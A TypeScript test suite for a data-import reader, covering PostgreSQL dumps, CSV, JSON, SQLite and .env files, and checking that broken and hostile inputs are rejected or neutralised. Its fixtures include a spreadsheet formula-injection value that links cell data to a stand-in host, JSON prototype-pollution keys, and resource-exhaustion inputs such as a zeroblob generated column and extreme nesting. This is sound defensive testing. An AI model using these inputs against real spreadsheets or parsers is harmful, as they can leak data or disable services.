/** What the files of real installations look like, and what broken and hostile ones come to. */
import fs from 'node:fs'
import { gzipSync } from 'node:zlib'
import Database from 'better-sqlite3'
import { describe, expect, it } from 'vitest'
import { fileOf, rowsIn, rowsOf } from './reading.testing'

const rows = async (...args: Parameters<typeof rowsIn>) => (await rowsIn(...args)).map(({ row }) => row)

describe('a plain-text pg_dump', () => {
  it('is read past all that is no row', async () => {
    const found = await rowsIn(
      `--
-- PostgreSQL database dump
--

\\restrict abc
SET client_encoding = 'UTF8';
SELECT pg_catalog.set_config('search_path', '', false);
/* a comment with ; and 'quotes /* nested */ ' */
CREATE FUNCTION public.f() RETURNS trigger LANGUAGE plpgsql AS $body$
BEGIN
  INSERT INTO messages VALUES ('not a row; never');
END;
$body$;
CREATE TABLE public.messages (
    id integer DEFAULT nextval('s'::regclass) NOT NULL,
    "Body" character varying(255) DEFAULT 'a, b)'::character varying,
    price numeric(10,2),
    CONSTRAINT c CHECK ((price > (0)::numeric))
);
COPY public.messages (id, "Body", price) FROM stdin;
1\tTwo\\nlines\\tand a \\\\ sign\t\\N
2\tCaf\\303\\251 \\x41\t10.50
\\.

INSERT INTO public.messages VALUES (3, E'It\\'s', -1.5e3), (4, 'O''Brien -- no comment', '7'::numeric(10,2));
INSERT INTO "old-shop"."Chats" ("From") VALUES ($q$a 'b' $$ c$q$);
INSERT INTO public.messages (id, "Body") VALUES (now(), ARRAY['a', 'b, c']) ON CONFLICT DO NOTHING;
--
-- PostgreSQL database dump complete
--
`,
      'dump.sql',
    )
    expect(found.map(({ table, row }) => [table, ...Object.values(row)])).toEqual([
      ['messages', '1', 'Two\nlines\tand a \\ sign', null],
      ['messages', '2', 'Café A', '10.50'],
      ['messages', '3', "It's", '-1.5e3'],
      ['messages', '4', "O'Brien -- no comment", '7'],
      ['old-shop.Chats', "a 'b' $$ c"],
      ['messages', 'now()', "ARRAY['a', 'b, c']"],
    ])
    expect(found[1]?.line).toBe(22)
  })

  it('says which line is cut', async () => {
    const whole = 'COPY t (a, b) FROM stdin;\n1\t2\n3\t4\n\\.\n'
    await expect(rowsIn(whole.slice(0, -6), 'x.sql')).rejects.toMatchObject({ code: 'bad-row', line: 3 })
    await expect(rowsIn(whole.slice(0, -3), 'x.sql')).rejects.toMatchObject({ code: 'truncated', line: 3 })
    await expect(rowsIn("INSERT INTO t (a) VALUES ('b", 'x.sql')).rejects.toMatchObject({ code: 'truncated' })
    const unfinished = `--\n-- PostgreSQL database dump\n--\n${whole}`
    await expect(rowsIn(unfinished, 'x.sql')).rejects.toMatchObject({ code: 'truncated' })
    await expect(rowsIn("INSERT INTO t (a) VALUES ('b') 'c';", 'x.sql')).rejects.toMatchObject({
      code: 'bad-syntax',
    })
    await expect(rowsIn('INSERT INTO t (a, b) VALUES (1);', 'x.sql')).rejects.toMatchObject({
      code: 'bad-row',
    })
  })

  it('is read in the encoding that it names, and in no other', async () => {
    const latin = Buffer.from(
      "SET client_encoding = 'LATIN1';\nINSERT INTO t (a) VALUES ('caf\xe9');\n",
      'latin1',
    )
    expect(await rows(latin, 'x.sql')).toEqual([{ a: 'café' }])
    const wrong = Buffer.from("INSERT INTO t (a) VALUES ('caf\xe9');\n", 'latin1')
    await expect(rowsIn(wrong, 'x.sql')).rejects.toMatchObject({ code: 'encoding', line: 1 })
    await expect(rowsIn("SET client_encoding = 'BIG5';\n", 'x.sql')).rejects.toMatchObject({
      code: 'encoding',
    })
  })

  it('may have lines that end as on Windows', async () => {
    const crlf = 'COPY t (a) FROM stdin;\n1\\r\n\\.\n'.replaceAll('\n', '\r\n')
    expect(await rows(crlf, 'x.sql')).toEqual([{ a: '1\r' }])
  })

  it('reads only the tables that are wanted', async () => {
    const file = fileOf('COPY a (x) FROM stdin;\n1\n\\.\nCOPY b (x) FROM stdin;\n2\n\\.\n', 'x.sql')
    expect((await rowsOf(file, ['b'])).map(({ row }) => row)).toEqual([{ x: '2' }])
  })
})

describe('CSV', () => {
  it('is read as spreadsheets write it', async () => {
    expect(await rows('Name;Phone\r\n"Siti; ""Ratu""";0812\r\n\r\n', 'a.csv')).toEqual([
      { Name: 'Siti; "Ratu"', Phone: '0812' },
    ])
    expect(await rows('a\tb\n1\t2', 'a.tsv')).toEqual([{ a: '1', b: '2' }])
    expect(await rows('a,a,\n1,2,3', 'a.csv')).toEqual([{ a: '1', 'a (2)': '2', 'column 3': '3' }])
    expect(await rows(Buffer.from('n,v\ncaf\xe9,1', 'latin1'), 'a.csv')).toEqual([{ n: 'café', v: '1' }])
    expect(await rows(Buffer.from('\uFEFFn,v\nसिया,1', 'utf16le'), 'a.csv')).toEqual([{ n: 'सिया', v: '1' }])
    expect(await rows(Buffer.from('n,v\nok,1\n', 'utf16le'), 'a.csv')).toEqual([{ n: 'ok', v: '1' }])
  })

  it('takes a formula for the text it is', async () => {
    const formula = '=HYPERLINK("http://x/?"&A1)'
    expect(await rows(`a\n"${formula.replaceAll('"', '""')}"\n`, 'a.csv')).toEqual([{ a: formula }])
  })

  it.each([
    ['a,b\n1\n', 'bad-row', 2],
    ['a\n"x\ny', 'truncated', 2],
    ['a\n"x"y\n', 'bad-syntax', 2],
    [`${'c,'.repeat(1_000_000)}\n`, 'too-many-columns', 1],
  ])('refuses no. %#', async (content, code, line) => {
    await expect(rowsIn(content, 'a.csv')).rejects.toMatchObject({ code, line })
  })
})

describe('JSON', () => {
  it('keeps what lies deeper as columns, or as JSON', async () => {
    const found = await rowsIn(
      '{"orders": [{"id": 1, "who": {"phone": "x", "at": {"y": 1}}, "items": [{"a": 1}]}], "n": 3}',
    )
    expect(found).toEqual([
      {
        table: 'orders',
        line: 1,
        row: { id: '1', 'who.phone': 'x', 'who.at': '{"y":1}', items: '[{"a":1}]' },
      },
    ])
  })

  it('takes hostile keys for names like any other', async () => {
    const [found] = await rowsIn('[{"__proto__": {"polluted": "yes"}, "constructor": "c", "id": "1"}]')
    expect(found?.row['id']).toBe('1')
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })

  it.each([
    [`[${'['.repeat(100_000)}`, 'too-deep'],
    [`[{"a": ${'{"b":'.repeat(10_000)}1`, 'too-deep'],
    ['[{"a": 1}, {"a":', 'truncated'],
    ['{"a": 1}\n{"a": "', 'truncated'],
    ['[{"a": 1}]]', 'bad-syntax'],
    ['[{"a": nonsense}]', 'bad-syntax'],
    [`[{${Array.from({ length: 3000 }, (_, n) => `"k${n}":1`).join(',')}}]`, 'too-many-columns'],
  ])('refuses no. %#', async (content, code) => {
    await expect(rowsIn(content, 'a.json')).rejects.toMatchObject({ code })
  })
})

describe('a SQLite file', () => {
  const made = (): string => {
    const file = fileOf('', 'crm.sqlite')
    fs.rmSync(file)
    const db = new Database(file)
    db.exec(`CREATE TABLE "Contacts" (id INTEGER PRIMARY KEY, "Name" TEXT, big INTEGER, pic BLOB);
      CREATE VIEW v AS SELECT * FROM Contacts; CREATE VIRTUAL TABLE f USING fts5 (x);
      INSERT INTO Contacts VALUES (1, 'Siti', 9007199254740993, x'00'), (2, NULL, 1, NULL)`)
    db.close()
    return file
  }

  it('gives its tables, exactly', async () => {
    const found = (await rowsOf(made())).filter(({ table }) => table === 'Contacts')
    expect(found).toEqual([
      { table: 'Contacts', line: 1, row: { id: '1', Name: 'Siti', big: '9007199254740993', pic: null } },
      { table: 'Contacts', line: 2, row: { id: '2', Name: null, big: '1', pic: null } },
    ])
    expect((await rowsOf(made())).some(({ table }) => table === 'v' || table === 'f')).toBe(false)
  })

  it('is refused where it is encrypted, cut or broken', async () => {
    const whole = fs.readFileSync(made())
    await expect(rowsIn(whole.subarray(0, 5000), 'cut.sqlite')).rejects.toMatchObject({ code: 'damaged' })
    await expect(rowsIn(Buffer.from(whole).fill(0xaa, 100), 'crm.sqlite')).rejects.toMatchObject({
      code: 'damaged',
    })
    const encrypted = fileOf('', 'enc.db')
    fs.rmSync(encrypted)
    const db = new Database(encrypted)
    db.pragma("key = 'secret'")
    db.exec('CREATE TABLE t (a); INSERT INTO t VALUES (1)')
    db.close()
    await expect(rowsOf(encrypted)).rejects.toMatchObject({ code: 'damaged' })
  })

  it('works out no column of the file, and holds no row that is too long', async () => {
    const file = fileOf('', 'hostile.sqlite')
    const db = new Database(file)
    db.exec(
      "CREATE TABLE a (name TEXT, made TEXT AS (hex(zeroblob(100000000)))); INSERT INTO a VALUES ('Siti')",
    )
    expect((await rowsOf(file)).map(({ row }) => row)).toEqual([{ name: 'Siti' }])
    db.exec('CREATE TABLE b (text TEXT); INSERT INTO b VALUES (CAST(zeroblob(40000000) AS TEXT))')
    db.close()
    await expect(rowsOf(file)).rejects.toMatchObject({ code: 'line-too-long' })
  })
})

it('settings are read from lines of names and values', async () => {
  expect(await rows('# old\nPORT=3001\nexport KEY="a b"\n\nEMPTY=\n', '.env')).toEqual([
    { key: 'PORT', value: '3001' },
    { key: 'KEY', value: 'a b' },
    { key: 'EMPTY', value: '' },
  ])
})

describe('what is no readable file at all', () => {
  it.each([
    ['', 'empty'],
    ['PK\u0003\u0004 and so on', 'compressed'],
    ['PGDMP\u0001\u000e', 'custom-dump'],
    ["INSERT INTO t (a) VALUES ('a\0b');\n", 'not-text'],
  ])('no. %#', async (content, code) => {
    await expect(rowsIn(content, 'dump.sql')).rejects.toMatchObject({ code })
  })

  it('a gzip under another name', async () => {
    await expect(rowsIn(gzipSync('x'), 'dump.sql')).rejects.toMatchObject({ code: 'compressed' })
  })

  it('NUL bytes far inside', async () => {
    const far = `${"INSERT INTO t (a) VALUES ('a');\n".repeat(2000)}\0`
    await expect(rowsIn(far, 'dump.sql')).rejects.toMatchObject({ code: 'not-text' })
    await expect(rowsIn(`a\n${'1\n'.repeat(20_000)}\0`, 'a.csv')).rejects.toMatchObject({ code: 'not-text' })
  })

  it('a line of 100 MB, in every kind of text', async () => {
    const long = 'x'.repeat(100 * 1024 * 1024)
    await expect(rowsIn(`INSERT INTO t (a) VALUES ('${long}');`, 'a.sql')).rejects.toMatchObject({
      code: 'line-too-long',
    })
    await expect(rowsIn(`a\n"${long}"\n`, 'a.csv')).rejects.toMatchObject({ code: 'line-too-long' })
    await expect(rowsIn(`[{"a": "${long}"}]`, 'a.json')).rejects.toMatchObject({ code: 'line-too-long' })
  })
})
